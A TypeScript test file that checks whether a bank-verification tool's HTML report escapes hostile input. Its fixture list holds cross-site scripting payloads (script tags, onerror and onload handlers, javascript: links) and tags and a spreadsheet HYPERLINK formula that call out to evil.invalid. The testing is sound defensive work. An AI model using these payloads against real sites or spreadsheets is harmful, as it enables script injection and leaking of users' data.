/**
 * A hostile corpus through the report: markup in payee names, in the bank's holder names, in
 * reasons and request ids, in the input's file name. The page must contain none of it as
 * markup: only the report's own tags, no event handler, no script, no link, and — opened in
 * Chromium where it is installed — nothing runs and nothing is fetched.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { test } from 'node:test';
import { CHROMIUM, openChromium, recordPageEvents } from './helpers/chromium.js';
import { startSandbox } from '../src/sandbox/index.js';
import { openDatabase } from '../src/state/db.js';
import { BankStore } from '../src/state/bank-store.js';
import { lockIdentity, SYSTEM_PROBE } from '../src/state/run-lock.js';
import { readRunAggregates } from '../src/report/aggregate.js';
import { buildReport } from '../src/report/build.js';
import { renderReport } from '../src/report/render.js';
import { runCli, tempDir } from './helpers/cli.js';

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "'><svg onload=alert(3)>",
  '</title></style></textarea><script>alert(4)</script>',
  '<a href="javascript:alert(5)">click</a>',
  '<iframe src="http://evil.invalid/"></iframe>',
  '<link rel=stylesheet href=http://evil.invalid/x.css>',
  '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
  '<!-- --><base href="http://evil.invalid/">',
  '=HYPERLINK("http://evil.invalid/","x") `${alert(6)}` \u0000\u001b[31m',
  '<style>body{background:url(http://evil.invalid/)}</style>',
];

/** The only tags the report writes itself. */
const OWN_TAGS = new Set([
  'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'header', 'footer', 'section', 'p', 'h1', 'h2', 'h3', 'div', 'span', 'b', 'i', 'bdi',
  'small', 'br', 'code', 'dl', 'dt', 'dd', 'ul', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'svg', 'g', 'rect', 'text', 'tspan',
  'line', 'polyline',
]);

/** The only attributes it writes: no event handler, no URL-bearing attribute. */
const OWN_ATTRIBUTES = /^(lang|charset|http-equiv|content|name|class|id|style|role|aria-label|viewBox|preserveAspectRatio|x|y|x1|x2|y1|y2|width|height|rx|fill|stroke|stroke-width|points|text-anchor|data-[a-z-]+)$/;

function assertNoInjectedMarkup(html: string): void {
  assert.ok(html.startsWith('<!doctype html>'));
  const tags = [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)];
  for (const [whole, name, attributes] of tags) {
    assert.ok(OWN_TAGS.has(name!.toLowerCase()), `unexpected tag ${whole}`);
    // Values are quoted and their quotes escaped: what is left outside them are attribute names.
    const outside = attributes!.replace(/="[^"]*"/g, '=""');
    assert.doesNotMatch(outside, /['<>`]/, `an attribute broke out of its quotes in ${whole}`);
    for (const [, attribute] of outside.matchAll(/([^\s=/]+)=""/g)) assert.ok(OWN_ATTRIBUTES.test(attribute!), `unexpected attribute ${attribute} in ${whole}`);
    assert.equal(outside.replace(/[^\s=/]+=""/g, '').trim().replace(/\/$/, ''), '', `an attribute without a value in ${whole}`);
  }
  assert.equal((html.match(/<style>/g) ?? []).length, 1, 'only the report\'s own style block');
  assert.equal((html.match(/<meta /g) ?? []).length, 5, 'only the report\'s own meta tags');
  assert.ok(!html.includes('\u0000') && !html.includes('\u001b'), 'control characters are dropped');
}

test('hostile values in every field the state holds render as text', (t) => {
  let clock = Date.parse('2026-01-01T00:00:00Z');
  const db = openDatabase(':memory:');
  const store = new BankStore(db, () => clock);
  store.acquireLock(lockIdentity(process.pid), SYSTEM_PROBE); // a claim is made under the run lock
  t.after(() => {
    store.close();
    db.close();
  });
  const run = store.createRun(HOSTILE[1]!, 'pl', `${HOSTILE[0]}.csv`).id;
  HOSTILE.forEach((evil, i) => {
    const account = String(300000000000 + i);
    const idx = i * 3 + 1;
    // A holder whose name changed from one hostile text to another, and a hostile remark.
    store.insertResult({
      account, ifsc: 'SBIN0001234', mode: 'pl', status: 'VERIFIED', reason: null, beneficiaryName: `OLD ${evil}`, transactionRemark: null,
      bankName: null, bankBranch: null, bankCity: null, bankDistrict: null, bankState: null, bankMicr: null, bankIso3166: null,
      bankSwift: null, bankImps: null, bankNeft: null, bankRtgs: null, bankUpi: null, requestId: evil, verifiedAt: clock - 1000,
    });
    store.claim({ runId: run, account: account, ifsc: 'SBIN0001234', firstRow: idx, mode: 'pl', stored: false, retryUnconfirmed: false });
    const r = store.insertResult({
      account, ifsc: 'SBIN0001234', mode: 'pl', status: 'NOT_VERIFIED', reason: evil, beneficiaryName: evil, transactionRemark: evil,
      bankName: null, bankBranch: null, bankCity: null, bankDistrict: null, bankState: null, bankMicr: null, bankIso3166: null,
      bankSwift: null, bankImps: null, bankNeft: null, bankRtgs: null, bankUpi: null, requestId: evil, verifiedAt: clock,
    });
    store.markDone(run, idx, 'api', r.id, evil);
    // Its row's decision, every text of it hostile: the name and amount from the file, the codes as the state holds them.
    store.saveRow({
      runId: run, row: idx, line: idx + 1, account, ifsc: 'SBIN0001234', name: evil, amount: evil, status: i % 2 === 0 ? 'NOT_VERIFIED' : 'VERIFIED',
      reasonCode: evil, nameMatch: i % 3 === 0 ? null : evil, nameScore: i, decision: i % 2 === 0 ? 'HOLD' : 'REVIEW', decisionReason: evil,
    });
    for (const [offset, status] of [[1, 'FAILED'], [2, 'UNCONFIRMED']] as const) {
      store.claim({ runId: run, account: String(400000000000 + idx + offset), ifsc: `${evil.slice(0, 11)}`, firstRow: idx + offset, mode: 'pl', stored: false, retryUnconfirmed: false });
      store.markStatus(run, idx + offset, status, evil, evil);
    }
    clock += 1000;
  });
  store.flushSync();
  const report = buildReport(readRunAggregates(db, run, 100), {
    generatedAt: clock, toolVersion: HOSTILE[3]!, registry: HOSTILE[4]!, resumeCommand: `vas-verify bank ${HOSTILE[2]}`,
    atRisk: { items: HOSTILE.map((evil, i) => ({ line: i + 2, account: evil, ifsc: evil, expectedName: evil, beneficiaryName: evil, verdict: evil, score: evil })), total: 99 },
    nameMatch: Object.fromEntries(HOSTILE.map((evil, i) => [evil, i])),
    retries: { byCause: Object.fromEntries(HOSTILE.map((evil, i) => [evil, i + 1])), times: [] },
  });
  assert.equal(report.changedHolders.total, HOSTILE.length);
  const html = renderReport(report);
  assertNoInjectedMarkup(html);
  assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'), 'hostile text is shown, escaped');
  assert.ok(report.decisions && report.decisions.held.total === 6 && report.decisions.review.total === 5, 'the decision lists are on the page');
  assert.ok(html.includes('<td><bdi>&lt;script&gt;alert(1)&lt;/script&gt;</bdi></td>'), 'a hostile payee name in a decision list, escaped and isolated');

  // What the run records of itself (run_stats): output name, resume command, registry, version, causes, reasons.
  const evilCounts = Object.fromEntries(HOSTILE.map((evil, i) => [evil, i + 1]));
  store.startRunStats({
    runId: run, startedAt: clock, resumed: true, outputName: HOSTILE[5]!, outputPath: `/nonexistent/${HOSTILE[6]}`, resumeCommand: HOSTILE[7]!,
    toolVersion: HOSTILE[8]!, registry: HOSTILE[9]!, totals: () => ({ rows: 3, statuses: evilCounts, nameMatch: evilCounts, calls: { pl: 1, pd: 0 }, spend: 1, avoided: evilCounts }),
  });
  for (const evil of HOSTILE) store.noteRetry({ kind: evil, code: evil });
  store.endRunStats({ finishedAt: clock + 1, exitCode: 3, stopped: HOSTILE[10]!, message: HOSTILE[0]!, durationMs: 1, outputFile: null });
  store.flushSync();
  const recorded = renderReport(buildReport(readRunAggregates(db, run, 1), { generatedAt: clock, toolVersion: HOSTILE[3]! }));
  assertNoInjectedMarkup(recorded);
  assert.match(recorded, /data-testid="filter">vas-verify filter &#39;&lt;iframe src=&quot;http:\/\/evil\.invalid\/&quot;&gt;&lt;\/iframe&gt;&#39; --where/, 'the output name, quoted for the shell and escaped');
  assert.ok(recorded.includes('<code class="cmd">&lt;meta http-equiv='), 'the recorded resume command is shown, escaped');
  assert.ok(recorded.includes('<span data-testid="registry">=HYPERLINK(&quot;'), 'the recorded registry is shown, escaped');
});

test('a hostile CSV run end to end: bank --report and report --csv write a page with no injected markup', { timeout: 120_000 }, async (t) => {
  const dir = tempDir(t);
  const accounts = HOSTILE.map((_, i) => String(620000000100 + i * 13));
  // The bank's side answers with hostile holder names too.
  const sandbox = await startSandbox({ accounts: HOSTILE.map((evil, i) => ({ accountNumber: accounts[i]!, ifsc: 'SBIN0001234', name: `X ${evil.replace(/\u0000/g, '')}` })) });
  t.after(() => sandbox.close());
  const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
  const corpus = fs.readFileSync(path.join(import.meta.dirname, 'fixtures', 'hostile', 'formula-names.csv'), 'utf8').trimEnd().split(/\r?\n/);
  const lines = [...corpus, ...HOSTILE.map((evil, i) => `${quote(evil.replace(/\u0000/g, ''))},${accounts[i]},SBIN0001234`), `${quote(HOSTILE[1]!)},${quote(HOSTILE[0]!)},SBIN0001234`];
  const input = `${HOSTILE[2]!.replace(/\//g, '')}.csv`;
  fs.writeFileSync(path.join(dir, input), `${lines.join('\n')}\n`);
  // A hostile output name too: the run records it, and the page prints it in its filter commands.
  const output = `out ${HOSTILE[1]}.csv`;
  const r = await runCli(['bank', input, '-o', output, '--state', 's.sqlite', '--base-url', sandbox.url, '--report', 'run.html'], { cwd: dir });
  assert.ok(r.code === 0 || r.code === 3, r.stderr);
  const html = fs.readFileSync(path.join(dir, 'run.html'), 'utf8');
  assertNoInjectedMarkup(html);
  assert.match(html, /data-testid="held"/, 'the held list, from the state');
  assert.ok(html.includes('<td><bdi>=HYPERLINK(&quot;http://evil.invalid/?x=&quot;&amp;A1,&quot;Click&quot;)</bdi></td>'), 'a held formula payee name, as the file has it, as text in its own <bdi>');
  assert.ok(html.includes('<bdi>=HYPERLINK(&quot;http://example.invalid/x&quot;,&quot;N M JAIN&quot;)</bdi>'), 'a formula holder name as the bank sent it: no formula-escape quote');
  assert.doesNotMatch(html, /&#39;=/, 'no formula-escape artefact on the page');
  const again = await runCli(['report', '--state', 's.sqlite', '--csv', output, '-o', 'again.html'], { cwd: dir });
  assert.equal(again.code, 0, again.stderr);
  assertNoInjectedMarkup(fs.readFileSync(path.join(dir, 'again.html'), 'utf8'));
  const capped = await runCli(['report', '--state', 's.sqlite', '--limit', '1', '-o', 'capped.html'], { cwd: dir });
  assert.equal(capped.code, 0, capped.stderr);
  const cappedHtml = fs.readFileSync(path.join(dir, 'capped.html'), 'utf8');
  assertNoInjectedMarkup(cappedHtml);
  assert.match(cappedHtml, /vas-verify filter &#39;out &quot;&gt;&lt;img src=x onerror=alert\(2\)&gt;\.csv&#39; --where/);

  if (CHROMIUM === undefined && process.env.CI !== 'true') {
    t.diagnostic('Chromium is not installed (`apt-get install chromium`): the page was checked as text only');
    return;
  }
  const context = await openChromium(t);
  const page = context.pages()[0] ?? (await context.newPage());
  const events = recordPageEvents(page);
  const url = pathToFileURL(path.join(dir, 'run.html')).href;
  await page.goto(url, { waitUntil: 'load' });
  const active = (await page.evaluate("document.querySelectorAll('script, img, iframe, object, embed, link, base, a, form, input').length")) as number;
  assert.equal(active, 0);
  assert.deepEqual(events, [`request ${url}`]);
});
